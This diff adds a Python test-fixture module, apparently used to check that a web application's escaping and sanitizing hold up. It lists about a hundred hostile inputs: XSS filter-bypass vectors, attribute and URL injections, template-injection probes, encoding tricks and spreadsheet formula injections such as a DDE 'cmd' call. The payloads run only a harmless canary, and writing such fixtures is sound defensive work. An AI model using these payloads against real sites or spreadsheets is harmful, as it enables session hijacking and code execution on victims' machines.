@@ -1,0 +1,138 @@
+"""A hundred texts that would like to be more than text: in a page, in an attribute, in a script, in a spreadsheet.
+
+Those that can run something call `canary`, which every visited page has. Where a text is about another danger (a
+formula, an invisible character) it only has to arrive and to stay what it is.
+"""
+
+CALL = "canary(1)"
+
+TAGS = [
+    f"<script>{CALL}</script>",
+    f"<SCRIPT>{CALL}</SCRIPT>",
+    f"<script\t>{CALL}</script >",
+    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
+    f"</title><script>{CALL}</script>",
+    f"</textarea><script>{CALL}</script>",
+    f"</style><script>{CALL}</script>",
+    f"</script><script>{CALL}</script>",
+    f"--><script>{CALL}</script><!--",
+    f"]]><script>{CALL}</script>",
+    f"<script src=data:text/javascript,{CALL}></script>",
+    f"<script src=//127.0.0.1:9/x.js></script><script>{CALL}</script>",
+    f"<script type=module>{CALL}</script>",
+    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
+    f"<template><script>{CALL}</script></template><img src=x onerror={CALL}>",
+    f"<xss><script>{CALL}</script>",
+    f"<svg><script>{CALL}</script></svg>",
+    f"<svg><script href=data:text/javascript,{CALL} /></svg>",
+    f"<math><mtext><script>{CALL}</script>",
+    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
+    f"<iframe src='javascript:parent.{CALL}'></iframe>",
+    f"<object data='data:text/html,<script>{CALL}</script>'></object>",
+    f"<embed src='data:text/html,<script>{CALL}</script>'>",
+    f"<base href='javascript:{CALL}//'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
+    "<meta http-equiv=refresh content='0;url=/panel/logout'>",
+    "<link rel=stylesheet href=//127.0.0.1:9/x.css>",
+    "<style>*{display:none}</style>",
+    "<style>@import '//127.0.0.1:9/x.css';</style>",
+    "<form action=//127.0.0.1:9/><input name=csrf><button>Log in</button></form>",
+    "<plaintext>",
+    "<!--",
+    "<![CDATA[",
+    "<?php echo 1 ?>",
+]
+HANDLERS = [
+    f"<img src=x onerror={CALL}>",
+    f"<img src=x onerror='{CALL}'>",
+    f'<img src="x" onerror="{CALL}">',
+    f"<IMG SRC=x OnErRoR={CALL}>",
+    f"<img/src=x/onerror={CALL}>",
+    f"<img\nsrc=x\nonerror\n=\n{CALL}>",
+    f"<img src=x onerror={CALL}//",
+    f'<<img src=x onerror="{CALL}">',
+    f"<svg onload={CALL}>",
+    f"<svg/onload={CALL}>",
+    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
+    f"<svg><set onbegin={CALL} attributeName=x>",
+    f"<body onload={CALL}>",
+    f"<input autofocus onfocus={CALL}>",
+    f"<select autofocus onfocus={CALL}>",
+    f"<textarea autofocus onfocus={CALL}>",
+    f"<details open ontoggle={CALL}>",
+    f"<video src=x onerror={CALL}></video>",
+    f"<audio src=x onerror={CALL}></audio>",
+    f"<video><source onerror={CALL}></video>",
+    f"<marquee onstart={CALL}>",
+    f"<p onmouseover={CALL} style=position:fixed;inset:0>over</p>",
+    f"<a href=# autofocus tabindex=1 onfocus={CALL}>x</a>",
+    f"<div contenteditable autofocus onfocus={CALL}>",
+    f"<style onload={CALL}></style>",
+    f"<link rel=stylesheet href=x onerror={CALL}>",
+    f"<isindex type=image src=x onerror={CALL}>",
+]
+ATTRIBUTES = [
+    f'" onfocus={CALL} autofocus x="',
+    f"' onfocus={CALL} autofocus x='",
+    f"` onfocus={CALL} autofocus x=`",
+    f'"><img src=x onerror={CALL}>',
+    f"'><img src=x onerror={CALL}>",
+    f'" autofocus onfocus="{CALL}',
+    f"x onmouseover={CALL}",
+    '" hx-get="/panel/logout" hx-trigger="load',
+    f'" hx-on::load="{CALL}" hx-trigger="load',
+]
+URLS = [
+    f"javascript:{CALL}",
+    f"JaVaScRiPt:{CALL}",
+    f"java\tscript:{CALL}",
+    f" javascript:{CALL}",
+    f"data:text/html,<script>{CALL}</script>",
+    f"vbscript:{CALL}",
+    f"<a href=javascript:{CALL}>click</a>",
+    f"<a href='java&#10;script:{CALL}'>click</a>",
+    f"<a href=&#106;avascript:{CALL}>click</a>",
+    "https://example.org/?q=<b>bold</b>",
+]
+TEMPLATES = [
+    "{{ 7*7 }}",
+    "{{ config }}",
+    "{{ ''.__class__.__mro__ }}",
+    "{% for x in range(9) %}x{% endfor %}",
+    "${7*7}",
+    f"#{{{CALL}}}",
+    "%(name)s %s %d {0} {name}",
+    f"{{{{constructor.constructor('{CALL}')()}}}}",
+]
+ENTITIES = [
+    f"&lt;script&gt;{CALL}&lt;/script&gt;",
+    f"&#60;script&#62;{CALL}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
+    f"%3Cscript%3E{CALL}%3C/script%3E",
+    f"＜script＞{CALL}＜/script＞",
+    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
+    "&amp;&nbsp;&copy;&#x1F600;&unknown;",
+]
+ODD = [
+    "\u202egnp.exe\u202c right to left",
+    "zero\u200bwidth\u2060joined\ufeff",
+    "line\u2028separator\u2029paragraph",
+    f"bell\x07 escape\x1b[31m null \x00<img src=x onerror={CALL}>",
+    "Z̸̢̛͎a̶̡̛l̵̨̛g̷̢̛ơ̴̡" * 4,
+    "שלום עולם <b>مرحبا</b> 你好 👩‍👩‍👧‍👦",
+    "a" * 400,
+]
+FORMULAS = [
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")',
+    "+1+1",
+    "-1+1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    '",=1+1,"',
+    "'=1+1",
+]
+
+TEXTS = [*TAGS, *HANDLERS, *ATTRIBUTES, *URLS, *TEMPLATES, *ENTITIES, *ODD, *FORMULAS]
